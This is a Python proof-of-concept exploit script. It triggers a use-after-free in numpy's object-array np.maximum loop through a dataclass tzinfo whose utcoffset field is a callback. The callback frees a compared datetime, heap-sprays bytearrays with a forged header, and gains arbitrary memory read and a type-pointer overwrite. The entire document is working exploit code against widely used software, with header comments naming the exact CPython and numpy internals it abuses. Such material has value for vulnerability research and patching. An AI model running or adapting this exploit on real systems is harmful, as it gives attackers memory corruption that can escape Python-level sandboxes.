# source: CPython 3.11 _datetimemodule.c datetime_richcompare -> datetime_utcoffset -> call_tzinfo_method: PyObject_CallMethod(tzinfo, "utcoffset", "O", self), a by-name lookup that an instance attribute wins; dataclasses' generated __init__ sets a field as an instance attribute; numpy 1.24 loops.c npy_ObjectMax (PyObject_RichCompareBool on borrowed i1, i2, then Py_INCREF(result))
# family: object-array loop (np.maximum) comparing aware datetimes; the tzinfo is a @dataclass subclass of datetime.tzinfo whose FIELD is named utcoffset and holds a plain script function (no def utcoffset, no dunder, no property)
# goal: the compared datetime is freed inside the comparison, reclaimed by a bytearray buffer, and np.maximum hands the freed pointer back: type(res) is bytearray with a huge length, raw memory read and type-pointer write
import dataclasses
import datetime
import numpy as np

left = np.empty(1, dtype=object)
right = np.empty(1, dtype=object)
spray = []
calls = []


def q(n):
    return n.to_bytes(8, "little")


def bytearray_type():
    h = hash(bytearray) & (2**64 - 1)
    return ((h << 4) | (h >> 60)) & (2**64 - 1)


FAKE = q(2**40) + q(bytearray_type()) + q(2**62) + q(2**64 - 1) + q(2**64 - 1) + q(0)[:7]


def shift(when):
    calls.append(1)
    if len(calls) == 1:
        left[0] = None
    elif len(calls) == 2:
        for k in range(400):
            spray.append(bytearray(FAKE))
    return datetime.timedelta(0)


@dataclasses.dataclass
class Zone(datetime.tzinfo):
    utcoffset: object = None


z1 = Zone(shift)
z2 = Zone(shift)
left[0] = datetime.datetime(2020, 1, 1, tzinfo=z1)
right[0] = datetime.datetime(2020, 1, 2, tzinfo=z2)
out = np.maximum(left, right)
res = out[0]
print("script code ran inside np.maximum's loop:", len(calls), "calls")
print("np.maximum returned a freed datetime, now a bytearray:", type(res) is bytearray, len(res))


class Box:
    pass


class Other:
    pass


def where(o):
    return int(repr(o).split(" at ")[1].rstrip(">"), 16)


bx = Box()
ot = Other()
wb, wo = where(bx), where(ot)
print("Box at", hex(wb), "raw memory:", bytes(res[wb:wb + 16]).hex())
res[wb + 8:wb + 16] = res[wo + 8:wo + 16]
print("after a raw write of its type pointer, type(bx) is Other:", type(bx) is Other)
